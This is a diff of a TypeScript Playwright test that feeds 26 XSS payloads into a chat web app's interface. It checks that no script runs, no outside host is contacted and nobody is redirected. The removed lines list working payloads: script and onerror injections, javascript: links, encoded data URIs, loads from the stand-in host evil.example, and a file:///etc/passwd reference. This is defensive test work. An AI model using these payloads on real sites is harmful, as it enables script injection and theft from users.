@@ -1,115 +1,99 @@
-// Promise: hostile text is inert wherever the page shows it. 26 payloads, each in ten places of the real page under its real
-// policy: no script runs, nothing is asked of another host, nobody is led away.
+// Promise: hostile text is inert wherever the page shows it. 26 payloads, each in 25 places of the real page under its real
+// policy, 650 forms: no script runs, nothing is asked of another host, nobody is led away.
 
 import type { Browser, Page } from 'playwright-core'
-import { afterAll, beforeAll, expect, it } from 'vitest'
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
 
 import type { EventBody } from '../../src/agent/events.ts'
 import { sharedSatchel } from '../e2e/shared.ts'
-import { frame, message, RUN } from '../unit/web/frames.ts'
-import { ask, scripted, startBrowser, stream } from './open.ts'
-
-const RUNS = 'globalThis.pwned=1'
-const PAYLOADS: readonly string[] = [
-  `<script>${RUNS}</script>`,
-  `"><script src="https://evil.example/x.js"></script>`,
-  `<img src=x onerror="${RUNS}">`,
-  `<img src="https://evil.example/p.png?secret">`,
-  `<svg onload="${RUNS}"><use href="https://evil.example/#x"/></svg>`,
-  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
-  `<base href="https://evil.example/"><a href="/v1">x</a>`,
-  `<form action="https://evil.example/"><button autofocus>Send</button></form>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
-  `<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b)}</style>`,
-  `[go](javascript:${RUNS}) [go](JaVaScRiPt:${RUNS}) [go](<java\tscript:${RUNS}>)`,
-  `[go](&#x6A;avascript:${RUNS}) [go](\u0001javascript:${RUNS}) [go](vbscript:x)`,
-  `[page](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
-  `![p](https://evil.example/p.png) ![q](data:image/svg+xml;base64,PHN2Zy8+ "t")`,
-  `[a]: javascript:${RUNS}\n\n[a] and <javascript:${RUNS}>`,
-  `[x](https://evil.example/" onmouseover="${RUNS} "title" onclick="${RUNS}")`,
-  '```html\n<script>globalThis.pwned=1</script>\n```\n~~~"><img src=x onerror=1>\nx\n~~~',
-  `| a | b |\n|---|:-:|\n| <img src=x onerror=${RUNS}> | [x](javascript:${RUNS}) |`,
-  `{{constructor.constructor('${RUNS}')()}} \${${RUNS}} <%= 1 %>`,
-  `\u202Egnp.exe\u2066 \u200B\u200D\uFEFF \uD800 \0 \u2028 </textarea></title>`,
-  `'"\`><img/src/onerror=${RUNS}>--!><x onpointerenter=${RUNS}>`,
-  `javascript:${RUNS}`,
-  `blob:https://evil.example/1 //evil.example/x file:///etc/passwd`,
-  `${'<b>'.repeat(300)}${'> '.repeat(300)}${'*_`['.repeat(150)}<img src=x onerror=${RUNS}>`,
-]
+import { frame, message, RECEIPT, RUN } from '../unit/web/frames.ts'
+import { threadInfo } from '../unit/web/ports.ts'
+import { THREAD } from './answering.ts'
+import { scripted, startBrowser, stream, type Answer } from './open.ts'
+import { PAYLOADS } from './payloads.ts'
+import { info } from './thread-files.ts'
+import { skill } from './walk-data.ts'
 
 const satchel = sharedSatchel()
 let browser: Browser
+let foreign: string[]
+let close: () => Promise<void>
+
 beforeAll(async () => {
   browser = await startBrowser()
 })
 afterAll(async () => browser?.close())
+beforeEach(() => {
+  foreign = []
+})
+afterEach(async () => close())
 
-/** A run in which everything that somebody else chose is the payload. */
-function runOf(text: string): readonly EventBody[] {
-  const at = '2030-01-02T03:04:05.000Z'
-  return [
-    { type: 'run.accepted', status: 'running' },
-    { type: 'run.started', model: text, build: 'b', catalog_version: 1, demo: false },
-    { type: 'thread.titled', title: text },
-    { type: 'skill.loaded', name: text, category: 'custom', digest: text, via: 'slash' },
-    { type: 'thinking.delta', step: 1, block: 0, offset: 0, text },
-    { type: 'text.delta', step: 1, block: 1, offset: 0, text },
-    { type: 'tool.started', tool_use_id: 'a', name: text, input: { path: text, [text]: text } },
-    { type: 'tool.completed', tool_use_id: 'a', name: text, is_error: true, preview: text, duration_ms: 1 },
-    {
-      type: 'tool.started',
-      tool_use_id: 'q',
-      name: 'ask_clarification',
-      input: { question: text, options: [text] },
-    },
-    { type: 'budget.warning', detail: text },
-    {
-      type: 'artifact.presented',
-      path: `/mnt/user-data/outputs/${text}`,
-      title: text,
-      media_type: text,
-      href: '/v1/x',
-    },
-    { type: 'tool.started', tool_use_id: 'c', name: text, input: { text } },
-    {
-      type: 'approval.requested',
-      tool_use_id: 'c',
-      name: text,
-      input: { [text]: text },
-      request: {
-        kind: 'tool',
-        method: text,
-        url: text,
-        headers: { [text]: text },
-        body: text,
-        notes: [text],
-      },
-      reason: text,
-      digest: 'd',
-      expires_at: at,
-    },
-    { type: 'run.waiting', reason: 'approval', tool_use_ids: ['c'], until: at },
-  ]
+const ALL = PAYLOADS.join('\n\n')
+const COUNT = PAYLOADS.length
+const list = (data: readonly unknown[]) => ({ json: { data, next_cursor: null } })
+const lists =
+  (data: readonly unknown[]): Answer =>
+  async () =>
+    list(data)
+const ENDED: EventBody = { type: 'run.completed', stop_reason: 'answered', receipt: RECEIPT }
+
+async function visitor(fragment: string, answers: Record<string, Answer>): Promise<Page> {
+  const { page, complaints } = await scripted(browser, satchel.url, fragment, answers)
+  close = async () => {
+    expect(complaints).toEqual([])
+    expect(foreign).toEqual([])
+    expect(new URL(page.url()).origin).toBe(new URL(satchel.url).origin)
+    await page.context().close()
+  }
+  page.on('request', (request) => {
+    const url = request.url()
+    if (!url.startsWith(`${satchel.url}/`) && !url.startsWith('blob:')) foreign.push(url)
+  })
+  page.on('dialog', (dialog) => {
+    foreign.push(`dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  page.on('popup', (popup) => foreign.push(`popup: ${popup.url()}`))
+  return page
+}
+
+/** A page that has run what was asked. */
+async function asked(events: readonly EventBody[], more: Record<string, Answer> = {}): Promise<Page> {
+  const page = await visitor('', {
+    'POST /v1/chat': async () => stream(events.map((body, at) => frame(at + 1, body))),
+    [`GET ${THREAD}/runs/${RUN}/events`]: async () => new Promise(() => undefined),
+    ...more,
+  })
+  await page.getByLabel('Message', { exact: true }).fill(ALL)
+  await page.getByRole('button', { name: 'Send', exact: true }).click()
+  return page
 }
 
 /** What would be wrong with the document, whoever made it so. */
 async function wrongs(page: Page): Promise<readonly string[]> {
+  await page.evaluate(() => {
+    for (const details of document.querySelectorAll('details')) details.open = true
+  })
+  // What is drawn late: colours of code, pictures.
+  await page.evaluate(
+    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
+  )
   return page.evaluate(() => {
     const wrong: string[] = []
-    const own = new Set([location.origin])
     for (const element of document.querySelectorAll('*')) {
       const tag = element.localName
       if (['iframe', 'object', 'embed', 'base', 'style', 'math', 'template'].includes(tag)) wrong.push(tag)
       if (tag === 'script' && element.textContent !== '') wrong.push('a script with words')
       if (tag === 'meta' && element.hasAttribute('http-equiv')) wrong.push('meta http-equiv')
       for (const { name, value } of element.attributes) {
-        if (/^on|^srcdoc$|^style$|^formaction$|^ping$/.test(name)) wrong.push(`${tag}[${name}=${value}]`)
+        if (/^on|^srcdoc$|^formaction$|^ping$/.test(name)) wrong.push(`${tag}[${name}=${value}]`)
+        // The page's own: sizes and places, in numbers.
+        if (name === 'style' && !/^(?:[a-z-]+: (?!url)[-\d.a-zA-Z%() ]+; ?)*$/.test(value))
+          wrong.push(`${tag}[style=${value}]`)
         if (!['href', 'src', 'action', 'srcset', 'data', 'poster', 'xlink:href'].includes(name)) continue
         const url = new URL(value, location.href)
         const isLink = tag === 'a' && name === 'href' && ['http:', 'https:', 'mailto:'].includes(url.protocol)
-        const isOwn = own.has(url.origin) && url.protocol !== 'javascript:'
+        const isOwn = url.origin === location.origin && url.protocol !== 'javascript:'
         if (!isLink && !isOwn && url.protocol !== 'blob:') wrong.push(`${tag}[${name}=${value}]`)
         if (isLink && !isOwn && element.getAttribute('rel') !== 'noopener noreferrer')
           wrong.push(`a link without rel: ${value}`)
@@ -120,78 +104,268 @@ async function wrongs(page: Page): Promise<readonly string[]> {
   })
 }
 
-it.each(PAYLOADS.map((payload, at) => [at + 1, payload]))(
-  'payload %i is text in every place',
-  async (_, text) => {
-    const at = '2026-01-02T03:04:05.000Z'
-    const skill = {
-      name: text,
-      description: text,
-      category: 'custom',
-      enabled: true,
-      updated_at: at,
-      digest: text,
-      tags: [text],
-      user_invocable: true,
-      model_invocable: true,
-      argument_hint: text,
-    }
-    const thread = {
-      id: 'th_2',
-      title: text,
-      updated_at: at,
-      created_at: at,
-      forked_from: null,
-      branches: [],
-      match: { before: text, hit: text, after: text },
-    }
-    const file = {
-      path: `uploads/${text}`,
-      bytes: 3,
-      media_type: text,
-      origin: 'upload',
-      created_at: at,
-      updated_at: at,
-      href: '/v1/x',
-      sha256: 'x',
-    }
-    const page = { json: { data: [skill], next_cursor: null } }
-    const opened = await scripted(browser, satchel.url, '', {
-      'GET /v1/skills': async () => page,
-      'GET /v1/threads': async () => ({ json: { data: [thread], next_cursor: null } }),
-      'GET /v1/threads/th_1/files': async () => ({ json: { data: [file], next_cursor: null } }),
-      'POST /v1/chat': async () => stream(runOf(text).map((body, n) => frame(n + 1, body))),
-      [`GET /v1/threads/th_1/runs/${RUN}/events`]: async () => new Promise(() => undefined),
-      'GET /v1/threads/th_1/messages': async () => ({
-        json: { data: [message('m', 'user', [])], next_cursor: null },
+const log = (page: Page) => page.getByRole('region', { name: 'Conversation' })
+
+it('in what is asked, thought and said, in the name of a model and of a thread: 5 places', async () => {
+  const page = await asked(
+    [
+      { type: 'thread.titled', title: ALL },
+      { type: 'run.started', model: ALL, build: 'b', catalog_version: 1, demo: false },
+      ...PAYLOADS.flatMap((text, at): EventBody[] => [
+        { type: 'thinking.delta', step: at + 1, block: 0, offset: 0, text },
+        { type: 'text.delta', step: at + 1, block: 1, offset: 0, text },
+      ]),
+      ENDED,
+    ],
+    { [`GET ${THREAD}`]: async () => ({ json: threadInfo('th_1', { title: ALL, model: ALL }) }) },
+  )
+  await page.getByRole('button', { name: 'Good answer' }).waitFor()
+  expect(await log(page).locator('.thought').count()).toBe(COUNT)
+  expect(await log(page).locator('.prose').count()).toBe(COUNT)
+  expect(await wrongs(page)).toEqual([])
+  await page.getByRole('button', { name: 'Model and limits' }).click()
+  expect(await wrongs(page)).toEqual([])
+})
+
+it('in the name, input and result of a call, in skills and notes, failures and questions: 6 places', async () => {
+  const error = { type: '', title: ALL, status: 500, code: ALL, detail: ALL, request_id: ALL } as const
+  const page = await asked([
+    { type: 'run.started', model: 'm', build: 'b', catalog_version: 1, demo: false },
+    ...PAYLOADS.flatMap((text, at): EventBody[] => [
+      { type: 'skill.loaded', name: text, category: 'custom', digest: text, via: 'slash' },
+      { type: 'tool.started', tool_use_id: `t${at}`, name: text, input: { path: text, [text]: text } },
+      {
+        type: 'tool.completed',
+        tool_use_id: `t${at}`,
+        name: text,
+        is_error: at % 2 === 0,
+        preview: text,
+        duration_ms: 1,
+      },
+      {
+        type: 'tool.started',
+        tool_use_id: `q${at}`,
+        name: 'ask_clarification',
+        input: { question: text, context: text, options: [text] },
+      },
+      { type: 'budget.warning', detail: text },
+    ]),
+    {
+      type: 'run.failed',
+      stop_reason: 'model_error',
+      // Words of the model's service, as they came.
+      error: error as never,
+      receipt: { ...RECEIPT, status: 'failed', stop_reason: 'model_error', error: error as never },
+    },
+  ])
+  await log(page).getByRole('alert').waitFor()
+  expect(await log(page).locator('.asking').count()).toBe(COUNT)
+  expect(await log(page).locator('details.step').count()).toBeGreaterThanOrEqual(2 * COUNT)
+  expect(await wrongs(page)).toEqual([])
+})
+
+it('in what a call would send and why it is asked, open and decided: 2 places', async () => {
+  const at = '2030-01-02T03:04:05.000Z'
+  const page = await asked([
+    { type: 'run.accepted', status: 'running' },
+    ...PAYLOADS.flatMap((text, place): EventBody[] =>
+      ['open', 'closed'].flatMap((which): EventBody[] => [
+        { type: 'tool.started', tool_use_id: `${which}${place}`, name: text, input: { text } },
+        {
+          type: 'approval.requested',
+          tool_use_id: `${which}${place}`,
+          name: text,
+          input: { [text]: text },
+          request: {
+            kind: 'tool',
+            method: text,
+            url: text,
+            headers: { [text]: text },
+            body: text,
+            notes: [text],
+          },
+          reason: text,
+          digest: 'd',
+          expires_at: at,
+        },
+      ]),
+    ),
+    ...PAYLOADS.map((text, place): EventBody => {
+      return { type: 'approval.decided', tool_use_id: `closed${place}`, decision: 'deny', by: text }
+    }),
+    { type: 'run.waiting', reason: 'approval', tool_use_ids: [], until: at },
+  ])
+  await page
+    .getByRole('button', { name: 'Approve' })
+    .nth(COUNT - 1)
+    .waitFor()
+  expect(await log(page).locator('.decided').count()).toBe(COUNT)
+  expect(await wrongs(page)).toEqual([])
+})
+
+it('in the names and titles of files, and in files of all kinds that are shown: 7 places', async () => {
+  // No name of a file has a slash or a line in it; the script's may have.
+  const names = PAYLOADS.map((text, at) => `uploads/${at}${text}.csv`)
+  const kinds = ['md', 'csv', 'html', 'json', 'svg']
+  const page = await asked(
+    [
+      { type: 'run.started', model: 'm', build: 'b', catalog_version: 1, demo: false },
+      ...PAYLOADS.map((text): EventBody => {
+        const path = `/mnt/user-data/outputs/${text}`
+        return { type: 'artifact.presented', path, title: text, media_type: text, href: '/v1/x' }
       }),
-    })
-    const { page: tab, complaints } = opened
-    const foreign: string[] = []
-    tab.on('request', (request) => {
-      if (!request.url().startsWith(`${satchel.url}/`) && !request.url().startsWith('blob:'))
-        foreign.push(request.url())
-    })
-    tab.on('dialog', (dialog) => {
-      foreign.push(`dialog: ${dialog.message()}`)
-      void dialog.dismiss()
-    })
-    tab.on('popup', (popup) => foreign.push(`popup: ${popup.url()}`))
-    expect(await wrongs(tab), 'an empty chat, the list of threads').toEqual([])
-    await ask(tab, text.replaceAll('\n', ' '))
-    await tab.getByRole('button', { name: 'Approve' }).waitFor()
-    await tab.evaluate(() => {
-      for (const details of document.querySelectorAll('details')) details.open = true
-    })
-    // Highlighting and what comes late.
-    await tab.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))))
-    expect(await wrongs(tab), 'an answer with steps, a question, files and an approval').toEqual([])
-    await tab.goto(`${satchel.url}/#skills`)
-    await tab.getByRole('region', { name: 'Skills' }).waitFor()
-    expect(await wrongs(tab), 'the library').toEqual([])
-    expect(foreign).toEqual([])
-    expect(complaints).toEqual([])
-    expect(new URL(tab.url()).origin).toBe(new URL(satchel.url).origin)
-    await tab.context().close()
-  },
-)
+      ENDED,
+    ],
+    {
+      [`GET ${THREAD}/files`]: lists([
+        ...names.map((path) => ({ ...info('uploads/a.csv'), path })),
+        ...kinds.map((kind) => info(`outputs/all.${kind}`)),
+      ]),
+      ...Object.fromEntries(
+        kinds.map((kind): [string, Answer] => [
+          `GET ${THREAD}/files/outputs/all.${kind}`,
+          async () => ({ body: kind === 'csv' ? PAYLOADS.map(quoted).join('\n') : ALL }),
+        ]),
+      ),
+    },
+  )
+  expect(await log(page).locator('.artifact').count()).toBe(COUNT)
+  await page.getByRole('button', { name: /^Files \d+$/ }).click()
+  const panel = page.getByRole('complementary', { name: 'Files' })
+  const uploads = panel.getByRole('list', { name: 'Uploads' }).getByRole('listitem')
+  await uploads.nth(COUNT - 1).waitFor()
+  expect(await wrongs(page)).toEqual([])
+  for (const kind of kinds) {
+    await panel.getByRole('button', { name: new RegExp(`^all\\.${kind}`) }).click()
+    await panel.getByRole('heading', { name: `all.${kind}` }).waitFor()
+    await panel.getByText(/Reading the file|Making the table/).waitFor({ state: 'detached' })
+    expect(await wrongs(page), kind).toEqual([])
+    await panel.getByRole('button', { name: 'All files' }).click()
+  }
+})
+
+const quoted = (text: string): string => `"${text.replaceAll('"', '""')}",1`
+
+it('in the list of threads, what a search finds, and a name that is changed: 2 places', async () => {
+  const threads = PAYLOADS.map((title, at) => threadInfo(`th_${at}`, { title }))
+  const page = await visitor('', {
+    'GET /v1/threads': async (request) =>
+      new URL(request.url()).searchParams.has('q')
+        ? list(threads.map((one) => ({ ...one, match: { before: one.title, hit: one.title, after: '' } })))
+        : list(threads),
+  })
+  await page
+    .getByRole('navigation')
+    .getByRole('listitem')
+    .nth(COUNT - 1)
+    .waitFor()
+  expect(await wrongs(page)).toEqual([])
+  await page
+    .getByRole('button', { name: /^More for/ })
+    .first()
+    .click()
+  await page.getByRole('menuitem', { name: 'Rename…' }).click()
+  expect(await page.getByRole('textbox', { name: 'Name' }).inputValue()).toBe(PAYLOADS[0])
+  await page.keyboard.press('Escape')
+  await page.getByLabel('Search threads').fill(PAYLOADS[0] ?? '')
+  await page
+    .getByRole('list', { name: 'Found threads' })
+    .getByRole('listitem')
+    .nth(COUNT - 1)
+    .waitFor()
+  expect(await wrongs(page)).toEqual([])
+})
+
+it('in the skills of the library, behind a slash, and in a skill with its files: 2 places', async () => {
+  const skills = PAYLOADS.map((text) =>
+    skill(text, {
+      description: text,
+      tags: [text],
+      argument_hint: text,
+      digest: text,
+      model_invocable: true,
+    }),
+  )
+  const whole = skill('all', {
+    description: ALL,
+    argument_hint: ALL,
+    license: ALL,
+    version: ALL,
+    dependencies: PAYLOADS,
+    tags: PAYLOADS,
+    diagnostics: PAYLOADS.map((text) => ({ message: text })),
+    manifest: PAYLOADS.map((text) => ({ path: text })),
+    body: ALL,
+  })
+  const page = await visitor('', {
+    'GET /v1/skills': lists([...skills, skill('all')]),
+    'GET /v1/skills/all': async () => ({ json: whole }),
+  })
+  await page.getByRole('list', { name: 'Ideas' }).waitFor()
+  await page.getByLabel('Message', { exact: true }).fill('/')
+  await page.getByRole('option').first().waitFor()
+  expect(await wrongs(page)).toEqual([])
+  await page.getByLabel('Message', { exact: true }).fill('')
+  await page.getByRole('link', { name: 'Skills', exact: true }).click()
+  const library = page.getByRole('region', { name: 'Skills' })
+  // All of them are drawn.
+  await page.setViewportSize({ width: 1280, height: 100 * COUNT })
+  await library.getByRole('listitem').nth(COUNT).waitFor()
+  expect(await wrongs(page)).toEqual([])
+  await page.evaluate(() => {
+    location.hash = '#skill=all'
+  })
+  await page.getByRole('article', { name: 'SKILL.md' }).waitFor()
+  expect(await wrongs(page)).toEqual([])
+})
+
+it('in a thread that is read again, what was asked, said and called: 1 place', async () => {
+  const stored = PAYLOADS.flatMap((text, at) => {
+    const run_id = `run_${at}`
+    return [
+      { ...message(`m_${at}`, 'user', [{ type: 'text', text }]), run_id },
+      {
+        ...message(`a_${at}`, 'assistant', [
+          { type: 'text', text },
+          { type: 'tool_use', id: `t_${at}`, name: text, input: { [text]: text } },
+          {
+            type: 'tool_use',
+            id: `p_${at}`,
+            name: 'present_files',
+            input: { paths: [`/mnt/user-data/outputs/${text}`] },
+          },
+        ]),
+        run_id,
+      },
+      {
+        ...message(`r_${at}`, 'user', [
+          { type: 'tool_result', tool_use_id: `t_${at}`, content: text, is_error: true },
+          { type: 'tool_result', tool_use_id: `p_${at}`, content: text, is_error: false },
+        ]),
+        run_id,
+      },
+    ]
+  })
+  const page = await visitor('&t=th_1', {
+    [`GET ${THREAD}/messages`]: lists(stored),
+    [`GET ${THREAD}/runs`]: lists(PAYLOADS.map((model, at) => ({ ...RECEIPT, run_id: `run_${at}`, model }))),
+  })
+  await log(page)
+    .getByRole('article')
+    .nth(COUNT - 1)
+    .waitFor()
+  expect(await wrongs(page)).toEqual([])
+})
+
+it('what would be wrong is found: a link that runs or tells others, a style, a frame', async () => {
+  const page = await visitor('', {})
+  await page.evaluate(() => {
+    const link = document.createElement('a')
+    link.setAttribute('href', 'javascript:1')
+    link.setAttribute('ping', 'https://evil.example/')
+    document.body.append(link, document.createElement('iframe'))
+    link.style.backgroundImage = 'url("/icon.svg")'
+  })
+  expect((await wrongs(page)).length).toBe(4)
+  close = async () => page.context().close()
+})
